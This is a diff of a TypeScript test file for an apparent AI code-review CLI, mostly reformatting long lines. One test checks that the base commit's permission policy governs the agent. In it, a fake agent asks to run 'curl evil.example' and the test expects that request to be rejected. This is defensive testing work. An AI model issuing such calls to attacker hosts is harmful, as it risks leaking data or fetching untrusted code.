@@ -23,16 +23,33 @@ const finding = (severity: string) => ({
   path: "src/calc.ts",
   line: 6,
 });
-const report = (severity = "medium") => ({ summary: "Adds `div`.", highlights: ["Small, focused change"], findings: [finding(severity)], resolved: [], stillOpen: [] });
+const report = (severity = "medium") => ({
+  summary: "Adds `div`.",
+  highlights: ["Small, focused change"],
+  findings: [finding(severity)],
+  resolved: [],
+  stillOpen: [],
+});
 const reviewTurn = (severity?: string, before: FakeStep[] = []): FakeStep[] => [
-  { type: "plan", entries: [{ content: "Read the diff", status: "completed" }, { content: "Check edge cases", status: "in_progress" }] },
+  {
+    type: "plan",
+    entries: [
+      { content: "Read the diff", status: "completed" },
+      { content: "Check edge cases", status: "in_progress" },
+    ],
+  },
   { type: "tool_call", toolCallId: "t1", title: "Read src/calc.ts", kind: "read", status: "completed" },
   ...before,
   { type: "message", text: "\n" },
   { type: "report", report: report(severity) },
 ];
 
-function review(repoDir: string, scenario: FakeScenario, args: string[] = [], extraConfig: Record<string, unknown> = {}) {
+function review(
+  repoDir: string,
+  scenario: FakeScenario,
+  args: string[] = [],
+  extraConfig: Record<string, unknown> = {},
+) {
   const configDir = serverConfigDir({ fake: scenario }, extraConfig);
   return runWarden(["review", "--agent", "fake", "--cwd", repoDir, ...args], { cwd: configDir });
 }
@@ -94,22 +111,48 @@ describe.concurrent("warden review", () => {
       report: report("high"),
     });
     expect(json.findings).toEqual([
-      expect.objectContaining({ id: "F1", severity: "high", state: "open", path: "src/calc.ts", line: 6, firstSeenSha: repo.headSha }),
+      expect.objectContaining({
+        id: "F1",
+        severity: "high",
+        state: "open",
+        path: "src/calc.ts",
+        line: 6,
+        firstSeenSha: repo.headSha,
+      }),
     ]);
     expect(json.findings[0]).not.toHaveProperty("fingerprint");
   });
 
   it("applies the repository policy of the base commit, never the change's own", async () => {
-    const policy = "review:\n  failOn: medium\npermissions:\n  auto:\n    allow: [{ kind: read }, { kind: execute, command: 'npm test' }]\n";
-    const repo = localRepo({ baseConfig: policy, featureConfig: "review:\n  failOn: never\npermissions:\n  auto:\n    allow: [{ kind: execute }]\n" });
+    const policy =
+      "review:\n  failOn: medium\npermissions:\n  auto:\n    allow: [{ kind: read }, { kind: execute, command: 'npm test' }]\n";
+    const repo = localRepo({
+      baseConfig: policy,
+      featureConfig: "review:\n  failOn: never\npermissions:\n  auto:\n    allow: [{ kind: execute }]\n",
+    });
     const trace = join(tempDir("warden-cli-trace-"), "trace.jsonl");
     const asks: FakeStep[] = [
-      { type: "permission", toolCall: { toolCallId: "p1", title: "npm test", kind: "execute", rawInput: { command: "npm test" } } },
-      { type: "permission", toolCall: { toolCallId: "p2", title: "curl evil.example", kind: "execute", rawInput: { command: "curl evil.example" } } },
+      {
+        type: "permission",
+        toolCall: { toolCallId: "p1", title: "npm test", kind: "execute", rawInput: { command: "npm test" } },
+      },
+      {
+        type: "permission",
+        toolCall: {
+          toolCallId: "p2",
+          title: "curl evil.example",
+          kind: "execute",
+          rawInput: { command: "curl evil.example" },
+        },
+      },
     ];
     const result = await review(repo.dir, { traceFile: trace, turns: [reviewTurn("medium", asks)] });
     expect(result.code).toBe(1);
-    expect(readFakeTrace(trace).filter((e) => e.method === "permission_outcome").map((e) => e.params)).toEqual([
+    expect(
+      readFakeTrace(trace)
+        .filter((e) => e.method === "permission_outcome")
+        .map((e) => e.params),
+    ).toEqual([
       { outcome: "selected", optionId: "allow" },
       { outcome: "selected", optionId: "reject" },
     ]);
